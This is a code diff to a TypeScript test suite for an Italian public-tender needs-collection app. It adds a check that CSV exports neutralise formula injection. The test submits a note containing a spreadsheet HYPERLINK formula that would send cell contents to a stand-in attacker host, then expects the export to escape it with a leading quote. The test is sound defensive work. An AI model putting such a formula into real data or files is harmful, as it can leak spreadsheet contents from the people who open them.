@@ -141,7 +141,7 @@ describe('tenders: needs collection', () => {
     expect(wrong.status).to.equal(422);
     expect(wrong.text).to.contain(`Risposta di ${bodyB.name}`);
     expect(wrong.text).to.contain('value="tre"');
-    const onBehalf = await postForm(staff, `/gare/${d.id}/fabbisogni?ente=${bodyB.id}`, `/gare/${d.id}/fabbisogni/risposta`, { entityId: String(bodyB.id), [`q_${items[0].id}`]: '3', [`q_${items[1].id}`]: '2.500' });
+    const onBehalf = await postForm(staff, `/gare/${d.id}/fabbisogni?ente=${bodyB.id}`, `/gare/${d.id}/fabbisogni/risposta`, { entityId: String(bodyB.id), [`q_${items[0].id}`]: '3', [`q_${items[1].id}`]: '2.500', notes: '=HYPERLINK("http://evil.example/?x="&A1;"Dettagli")' });
     expect(onBehalf.status).to.equal(302);
     const csv = await staff.get(`/gare/${d.id}/fabbisogni.csv`);
     expect(csv.status).to.equal(200);
@@ -150,6 +150,9 @@ describe('tenders: needs collection', () => {
     expect(rows[0]).to.deep.equal(['Ente', 'Codice IPA', 'Stato', 'Data risposta', 'Postazioni di lavoro (postazioni)', 'Budget disponibile (euro)', 'Note']);
     const rowA = rows.find((r) => r[0] === bodyA.name)!;
     expect(rowA.slice(4)).to.deep.equal(['12', '15000,50', 'Nota riservata di A']);
+    // A body's note that a spreadsheet would run as a formula comes out as text (OWASP CSV injection).
+    const rowB = rows.find((r) => r[0] === bodyB.name)!;
+    expect(rowB[6]).to.equal(`'=HYPERLINK("http://evil.example/?x="&A1;"Dettagli")`);
     const total = rows[rows.length - 1];
     expect(total[0]).to.equal('Totale');
     expect(total.slice(4, 6)).to.deep.equal(['15', '17500,50']);
